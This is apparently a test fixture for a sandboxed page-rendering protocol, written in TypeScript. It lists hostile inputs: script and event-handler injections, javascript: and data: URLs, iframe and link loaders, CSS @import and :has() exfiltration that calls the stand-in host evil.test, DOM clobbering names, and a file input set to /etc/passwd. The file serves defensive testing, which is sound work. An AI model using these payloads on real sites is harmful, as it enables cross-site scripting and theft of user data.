// What a hostile visitor might send (LEAKS section 2, SECURITY 2.3), as operations inside `body`.
import { OP, SHADOW, STATE } from '../../src/protocol/codec/ops.ts'
import { type Attributes, element, text, type Writer } from './stage-host.ts'

export const EVIL = 'https://evil.test'
const RUN = "window.pwned=1;parent.pwned=1;console.error('pwned');alert('pwned')"
const JS = `javascript:${RUN}`
const HTML_DATA = `data:text/html,<script>${RUN}</script>`

/** Id of the first node in `body`: document, html, head and body come before. */
const FIRST = 5

export type Vector = {
  readonly name: string
  readonly write: (writer: Writer) => void
  /** Requests that are meant to happen: images and the like from https are what a page looks like. */
  readonly allows?: RegExp
}

type Options = { readonly namespace?: 'svg' | 'mathml'; readonly inside?: string }

/** One element with text in it. */
function one(name: string, tag: string, attributes: Attributes = {}, options: Options = {}): Vector {
  return {
    name,
    write(writer) {
      const { namespace, inside = 'click me' } = options
      if (namespace === 'svg' && tag !== 'svg')
        element(writer, 'svg', { width: '300', height: '200' }, { namespace, descend: true })
      if (namespace === 'mathml' && tag !== 'math') element(writer, 'math', {}, { namespace, descend: true })
      element(writer, tag, attributes, { ...(namespace && { namespace }), descend: true })
      text(writer, inside)
      writer.op(OP.up)
      if (namespace && tag !== namespace) writer.op(OP.up)
    },
  }
}

function nested(
  name: string,
  ...tags: readonly (readonly [string, Attributes, ('svg' | 'mathml')?])[]
): Vector {
  return {
    name,
    write(writer) {
      for (const [tag, attributes, namespace] of tags) {
        element(writer, tag, attributes, { descend: true, ...(namespace && { namespace }) })
      }
      text(writer, RUN)
      for (const _ of tags) writer.op(OP.up)
    },
  }
}

/** An element that gets an attribute later. */
function later(
  name: string,
  tag: string,
  attribute: string,
  value: string,
  namespace?: 'svg' | 'mathml',
): Vector {
  return {
    name,
    write(writer) {
      element(writer, tag, { id: 'late' }, namespace && { namespace })
      writer.op(OP.attribute, FIRST)
      writer.str(attribute)
      writer.value(value)
    },
  }
}

function style(name: string, css: string, allows?: RegExp): Vector {
  return {
    name,
    write(writer) {
      element(writer, 'style')
      writer.op(OP.sheetText, FIRST)
      writer.text(css)
      element(writer, 'input', { type: 'text', value: 'secret', class: 'x' })
    },
    ...(allows && { allows }),
  }
}

const HANDLERS =
  `onload onerror onclick onfocus onfocusin onmouseover onpointerover onanimationstart ontoggle onbeforetoggle
  onscroll onbegin onend onrepeat oncontentvisibilityautostatechange onpageshow onmessage onhashchange onwheel`
    .trim()
    .split(/\s+/)

const IMPORTS: readonly string[] = [
  `@import "${EVIL}/a.css";`,
  `@\\69mport url(${EVIL}/a.css)`,
  `/*{*/@import "${EVIL}/a.css"`,
  `\f\n@IMPORT '${EVIL}/a.css' layer(x) supports(a:b) print`,
  `@import "${EVIL}/a.css"; a{}`,
  `a{} @import "${EVIL}/a.css"`,
]

/** Style sheets as weapons (SA-06). */
export const CSS_VECTORS: readonly Vector[] = [
  style('@import', `@import "${EVIL}/a.css"; @import url(${EVIL}/b.css); @\\69mport '${EVIL}/c.css'; a{}`),
  style('@import after a comment with a brace', `/*{*/@import "${EVIL}/a.css";a{}`),
  ...IMPORTS.map(
    (rule): Vector => ({
      name: `rule inserted: ${rule.slice(0, 40)}`,
      write(writer) {
        element(writer, 'style')
        element(writer, 'style', {}, { namespace: 'svg' })
        element(writer, 'link', { rel: 'stylesheet', href: 'https://assets.test/x.css' })
        for (const id of [FIRST, FIRST + 1, FIRST + 2]) {
          writer.op(OP.ruleInsert, id, 0, 1)
          writer.text(rule)
        }
      },
      allows: /assets/,
    }),
  ),
  style('@import between comments', `/**/@import/**/"${EVIL}/a.css"/**/;`),
  style(
    'url() over http',
    `body{background:url(http://evil.test/x.png)} .x{cursor:url(http://evil.test/c.cur),auto}`,
  ),
  style('image-set over http', `body{background:image-set("http://evil.test/x.png" 1x)}`),
  style(
    '@font-face over http',
    `@font-face{font-family:f;src:url(http://evil.test/f.woff)} body{font-family:f}`,
  ),
  style(
    'image-set() and src() in odd spellings',
    `body{background:-webkit-image-set(url(http://evil.test/x.png) 1x);list-style-image:src("http://evil.test/y.png")}`,
  ),
  style(
    ':has() that asks for what is typed',
    `body:has(input[value^="s"]){background:url(http://evil.test/s.png)}`,
  ),
  style('attr() with url', `body::after{content:attr(data-x url)}`),
  style(
    'javascript: in CSS',
    `body{background:url("${JS}");-moz-binding:url(${EVIL});behavior:url(${EVIL})}`,
  ),
  style('expression()', `body{width:expression(${RUN})}`),
  style('end of style element', `</style><script>${RUN}</script>`),
  style('unbalanced', `a{color:red}}}}} @media{{{{ b{`),
  {
    name: 'style text as child',
    write(writer) {
      element(writer, 'style', {}, { descend: true })
      text(writer, `@import "${EVIL}/a.css"; body{background:url(http://evil.test/x.png)}`)
      writer.op(OP.up)
    },
  },
  {
    name: 'constructed sheet with @import',
    write(writer) {
      writer.op(OP.sheet)
      writer.text(`@import "${EVIL}/a.css"; body{color:red}`)
      writer.op(OP.adopt, 1, 1, FIRST)
      writer.op(OP.ruleInsert, FIRST, 0, 1)
      writer.text(`@import "${EVIL}/b.css";`)
    },
  },
  {
    name: 'style attribute',
    write(writer) {
      element(writer, 'div', {
        style: `background:url(http://evil.test/x);behavior:url(${EVIL});width:expression(alert(1))`,
      })
    },
  },
]

/** Names that clobber properties of the document and of forms (SA-05). */
export const CLOBBERING_VECTORS: readonly Vector[] = [
  ...[
    'createElement',
    'createElementNS',
    'documentElement',
    'body',
    'head',
    'adoptedStyleSheets',
    'compatMode',
    'activeElement',
  ].map(
    (name): Vector => ({
      name: `clobbered document.${name}`,
      write(writer) {
        element(writer, 'form', { name })
        element(writer, 'img', { name })
        element(writer, 'iframe', { name })
        element(writer, 'p', { class: 'after' })
      },
    }),
  ),
  {
    name: 'form whose inputs clobber it',
    write(writer) {
      element(writer, 'form', {}, { descend: true })
      for (const name of [
        'insertBefore',
        'attributes',
        'style',
        'setAttribute',
        'removeChild',
        'firstChild',
        'localName',
        'parentNode',
        'nodeType',
        'namespaceURI',
      ]) {
        element(writer, 'input', { name })
      }
      writer.op(OP.attribute, FIRST)
      writer.str('style')
      writer.value('color: red')
      writer.op(OP.up)
    },
  },
]

export const OTHER_VECTORS: readonly Vector[] = [
  // Scripts.
  one('script', 'script', {}, { inside: RUN }),
  one('script with source', 'script', { src: `${EVIL}/a.js` }),
  one('script, upper case', 'SCRIPT', {}, { inside: RUN }),
  one('module script', 'script', { type: 'module', src: `${EVIL}/a.js` }),
  one('SVG script', 'script', {}, { namespace: 'svg', inside: RUN }),
  one(
    'SVG script with href',
    'script',
    { href: `${EVIL}/a.js`, 'xlink:href': HTML_DATA },
    { namespace: 'svg' },
  ),
  one('MathML script', 'script', {}, { namespace: 'mathml', inside: RUN }),
  one('noscript', 'noscript', {}, { inside: '<img src=x onerror=alert(1)>' }),
  one('script in a template', 'template', {}, { inside: RUN }),
  one(
    'speculation rules',
    'script',
    { type: 'speculationrules' },
    { inside: `{"prefetch":[{"urls":["${EVIL}/p"]}]}` },
  ),
  one('import map', 'script', { type: 'importmap' }, { inside: '{}' }),

  // Handlers on any element of any namespace.
  ...HANDLERS.flatMap((handler) => [
    one(`${handler} on HTML`, 'div', {
      [handler]: RUN,
      tabindex: '0',
      style: 'animation: spin 1s; overflow: auto',
    }),
    one(`${handler} on SVG`, 'g', { [handler]: RUN, tabindex: '0' }, { namespace: 'svg' }),
    later(`${handler} set later`, 'img', handler, RUN),
  ]),
  one('handler in odd case', 'img', { OnErRoR: RUN, src: 'data:image/png,x' }),
  one('handler on MathML', 'mi', { onclick: RUN }, { namespace: 'mathml' }),
  one('handler on body', 'body', { onload: RUN, onhashchange: RUN, onblur: RUN }),
  one('broken image with handler', 'img', { src: 'data:image/png;base64,AA', onerror: RUN }),
  one('video with handler', 'video', { onloadstart: RUN, src: 'data:video/mp4,x' }),
  one('details with handler', 'details', { ontoggle: RUN, open: '' }),
  one('marquee', 'marquee', { onstart: RUN, onfinish: RUN }),

  // Links and navigation.
  one('javascript: link', 'a', { href: JS, style: 'position:fixed;inset:0' }),
  one('javascript: link with white space', 'a', {
    href: `\u0001 java\tscript:${RUN}`,
    style: 'position:fixed;inset:0',
  }),
  one('vbscript: link', 'a', { href: 'vbscript:msgbox(1)', style: 'position:fixed;inset:0' }),
  one('data: link', 'a', { href: HTML_DATA, style: 'position:fixed;inset:0' }),
  one('link to elsewhere', 'a', { href: EVIL, style: 'position:fixed;inset:0' }),
  one('link with target top', 'a', { href: EVIL, target: '_top', style: 'position:fixed;inset:0' }),
  one('link that opens a window', 'a', { href: EVIL, target: '_blank', style: 'position:fixed;inset:0' }),
  one('link with download', 'a', {
    href: 'data:text/plain,x',
    download: 'x.exe',
    style: 'position:fixed;inset:0',
  }),
  one('link with ping', 'a', { href: '#x', ping: `${EVIL}/ping`, style: 'position:fixed;inset:0' }),
  later('link set later', 'a', 'href', EVIL),
  nested('image map', ['map', { name: 'm' }], ['area', { href: JS, shape: 'default' }]),
  one('SVG link', 'a', { 'xlink:href': JS, href: JS }, { namespace: 'svg' }),
  one('MathML href', 'mtext', { href: JS, 'xlink:href': JS }, { namespace: 'mathml' }),
  one('meta refresh', 'meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}` }),
  one('meta refresh to javascript', 'meta', { 'http-equiv': 'refresh', content: `0;url=${JS}` }),
  one('meta CSP', 'meta', { 'http-equiv': 'Content-Security-Policy', content: 'script-src *' }),
  one('meta referrer', 'meta', { name: 'referrer', content: 'unsafe-url' }),
  one('base', 'base', { href: EVIL, target: '_top' }),

  // What loads documents or code.
  one('iframe src', 'iframe', { src: EVIL }),
  one('iframe javascript:', 'iframe', { src: JS }),
  one('iframe data:', 'iframe', { src: HTML_DATA }),
  one('iframe srcdoc', 'iframe', { srcdoc: `<script>${RUN}</script>` }),
  one('iframe without sandbox', 'iframe', {
    sandbox: 'allow-same-origin allow-scripts allow-top-navigation',
    allow: '*',
    src: EVIL,
  }),
  later('iframe src set later', 'iframe', 'src', EVIL),
  later('iframe srcdoc set later', 'iframe', 'srcdoc', `<script>${RUN}</script>`),
  later('iframe sandbox set later', 'iframe', 'sandbox', 'allow-scripts allow-same-origin allow-popups'),
  one('object', 'object', { data: EVIL }),
  one('object javascript:', 'object', { data: JS }),
  one('embed', 'embed', { src: EVIL, type: 'text/html' }),
  one('applet', 'applet', { code: 'x', archive: EVIL }),
  nested('frameset', ['frameset', {}], ['frame', { src: EVIL }]),
  one('portal', 'portal', { src: EVIL }),
  one('fencedframe', 'fencedframe', { src: EVIL }),
  one('webview', 'webview', { src: EVIL }),
  one('link import', 'link', { rel: 'import', href: EVIL }),
  ...[
    'preload',
    'modulepreload',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'prerender',
    'manifest',
    'icon',
    'apple-touch-icon',
    'stylesheet preload',
    'pingback',
    'expect',
    'compression-dictionary',
  ].map((rel) => one(`link ${rel}`, 'link', { rel, href: `${EVIL}/x`, as: 'script' })),
  one('link imagesrcset', 'link', { rel: 'preload', as: 'image', imagesrcset: `${EVIL}/x 1x` }),
  one('style sheet as javascript:', 'link', { rel: 'stylesheet', href: JS }),
  one('style sheet as data:', 'link', { rel: 'stylesheet', href: 'data:text/css,body{background:red}' }),
  one('style sheet over http', 'link', { rel: 'stylesheet', href: 'http://evil.test/x.css' }),
  one('style sheet of another type', 'link', { rel: 'stylesheet', type: 'text/xsl', href: `${EVIL}/x` }),

  // SVG that moves or loads.
  nested(
    'SVG animate href',
    ['svg', {}, 'svg'],
    ['a', {}, 'svg'],
    ['animate', { attributeName: 'href', values: JS }, 'svg'],
  ),
  nested(
    'SVG animate xlink:href',
    ['svg', {}, 'svg'],
    ['a', {}, 'svg'],
    ['animate', { attributeName: 'xlink:href', to: JS }, 'svg'],
  ),
  nested(
    'SVG set handler',
    ['svg', {}, 'svg'],
    ['g', {}, 'svg'],
    ['set', { attributeName: 'onclick', to: RUN }, 'svg'],
  ),
  nested(
    'SVG animate elsewhere',
    ['svg', {}, 'svg'],
    ['animate', { href: '#late', attributeName: 'href', to: JS }, 'svg'],
  ),
  later('SVG attributeName set later', 'animate', 'attributeName', 'href', 'svg'),
  one('SVG use elsewhere', 'use', { href: `${EVIL}/x.svg#a` }, { namespace: 'svg' }),
  one(
    'SVG use data:',
    'use',
    {
      'xlink:href': `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='a'><script>${RUN}</script></svg>#a`,
    },
    { namespace: 'svg' },
  ),
  one('SVG image javascript:', 'image', { href: JS, width: '10', height: '10' }, { namespace: 'svg' }),
  one('SVG feImage over http', 'feImage', { href: 'http://evil.test/x' }, { namespace: 'svg' }),
  one(
    'SVG filter elsewhere',
    'rect',
    { filter: `url(${EVIL}/x.svg#f)`, width: '9', height: '9' },
    { namespace: 'svg' },
  ),
  one('SVG handler element', 'handler', { 'ev:event': 'load' }, { namespace: 'svg', inside: RUN }),
  nested('foreignObject with script', ['svg', {}, 'svg'], ['foreignObject', {}, 'svg'], ['script', {}]),
  nested(
    'annotation-xml with script',
    ['math', {}, 'mathml'],
    ['annotation-xml', { encoding: 'text/html' }, 'mathml'],
    ['script', {}],
  ),
  one('xml:base', 'g', { 'xml:base': `${EVIL}/` }, { namespace: 'svg' }),
  one('XML processing by name', 'x:script', {}, { inside: RUN }),

  // Forms.
  nested(
    'form with javascript:',
    ['form', { action: JS }],
    ['button', { type: 'submit', style: 'position:fixed;inset:0' }],
  ),
  nested(
    'form elsewhere',
    ['form', { action: EVIL, method: 'post', target: '_top' }],
    ['button', { style: 'position:fixed;inset:0' }],
  ),
  nested(
    'button with formaction',
    ['form', {}],
    ['button', { formaction: JS, formtarget: '_top', style: 'position:fixed;inset:0' }],
  ),
  {
    ...nested(
      'image button',
      ['form', { action: EVIL }],
      ['input', { type: 'image', src: `${EVIL}/b.png`, formaction: JS }],
    ),
    // Its picture is an asset like any other.
    allows: /b\.png$/,
  },
  one('autofocus with handler', 'input', { autofocus: '', onfocus: RUN }),
  one('isindex', 'isindex', { action: JS, type: 'image' }),
  one('button with command', 'button', {
    command: 'show-modal',
    commandfor: 'x',
    popovertarget: 'x',
    style: 'position:fixed;inset:0',
  }),
  one('keygen', 'keygen', { autofocus: '', onfocus: RUN }),
  one('contenteditable', 'div', { contenteditable: '', style: 'position:fixed;inset:0' }),
  one('file chooser', 'input', { type: 'file', style: 'position:fixed;inset:0' }),
  one('directory chooser', 'input', { type: 'file', webkitdirectory: '', style: 'position:fixed;inset:0' }),
  one('colour chooser', 'input', { type: 'color', style: 'position:fixed;inset:0' }),

  // Media.
  one('image over http', 'img', { src: 'http://evil.test/x.png' }),
  one('image ftp:', 'img', { src: 'ftp://evil.test/x.png' }),
  one('image javascript:', 'img', { src: JS, lowsrc: JS, dynsrc: JS }),
  one('image from the host', 'img', { src: '/v1/agent/x' }),
  one('image with credentials in the address', 'img', { src: 'https://user:pass@evil.test/x.png' }),
  one('srcset over http', 'img', { srcset: 'http://evil.test/x.png 1x, javascript:alert(1) 2x' }),
  one('image with use-credentials', 'img', {
    src: 'https://assets.test/x.png',
    crossorigin: 'use-credentials',
    referrerpolicy: 'unsafe-url',
    attributionsrc: EVIL,
  }),
  one('video autoplay', 'video', { autoplay: '', src: 'blob:https://evil.test/1', poster: JS }),
  one('audio over http', 'audio', { autoplay: '', src: 'http://evil.test/x.mp3' }),
  one('track elsewhere', 'track', { src: 'http://evil.test/x.vtt', default: '', kind: 'subtitles' }),
  one('background attribute', 'body', { background: 'http://evil.test/x.png' }),

  // Odd names.
  one('tag with a space', 'img src=x onerror=alert(1)'),
  one('empty-ish tag', ' '),
  one('tag with markup', 'a><script>alert(1)</script>'),
  one('attribute with markup', 'div', { 'x onclick=alert(1)': '1', '"><script>': '1' }),
  one('prototype keys', 'div', { __proto__x: '1', constructor: '2', prototype: '3' }),
  one('own marks', 'div', { 'data-sl-own': '', 'data-sl-masked': '' }),
  one('customised built-in', 'button', { is: 'x-evil' }),
  one('custom element name', 'x-evil', { onclick: RUN, href: JS, src: EVIL }),
  one('reserved custom name', 'annotation-xml', {}),
  one('shadow root by template', 'template', { shadowrootmode: 'open' }, { inside: RUN }),

  // State.
  {
    name: 'dialog and popover with handlers',
    write(writer) {
      element(writer, 'dialog', { onbeforetoggle: RUN, ontoggle: RUN, onclose: RUN })
      writer.op(OP.state, FIRST, STATE.modal)
      element(writer, 'div', { popover: 'auto', onbeforetoggle: RUN })
      writer.op(OP.state, FIRST + 1, STATE.popover)
      writer.op(OP.state, FIRST, 0)
    },
  },
  {
    name: 'value of a file input',
    write(writer) {
      element(writer, 'input', { type: 'file' })
      writer.op(OP.value, FIRST)
      writer.text('/etc/passwd')
    },
  },
  {
    name: 'script in a shadow root',
    write(writer) {
      element(writer, 'div')
      writer.op(OP.shadowRoot, FIRST, SHADOW.closed)
      element(writer, 'script', {}, { descend: true })
      text(writer, RUN)
      writer.op(OP.up)
    },
  },
  {
    name: 'shadow root on an element that cannot have one',
    write(writer) {
      element(writer, 'input')
      writer.op(OP.shadowRoot, FIRST, 0)
      element(writer, 'script', { src: `${EVIL}/x.js` })
    },
  },
  {
    name: 'link turned into a preload later',
    write(writer) {
      element(writer, 'link', { href: `${EVIL}/x` })
      writer.op(OP.attribute, FIRST)
      writer.str('rel')
      writer.value('prefetch')
    },
  },
  {
    name: 'input turned into an image button',
    write(writer) {
      element(writer, 'input', { src: 'http://evil.test/x.png' })
      writer.op(OP.attribute, FIRST)
      writer.str('type')
      writer.value('image')
    },
  },
  {
    name: 'frame that names a document of nobody',
    write(writer) {
      element(writer, 'div')
      writer.op(OP.frame, FIRST, 7, 0)
      element(writer, 'iframe', { src: EVIL })
      writer.op(OP.frame, FIRST + 1, 8, 1)
    },
  },
  {
    name: 'second root element and text beside it',
    write(writer) {
      writer.op(OP.at, 1, 0)
      element(writer, 'html', { onload: RUN })
      text(writer, 'beside')
      element(writer, 'script', {}, { descend: true })
      text(writer, RUN)
    },
  },
]

export const VECTORS: readonly Vector[] = [...OTHER_VECTORS, ...CSS_VECTORS, ...CLOBBERING_VECTORS]
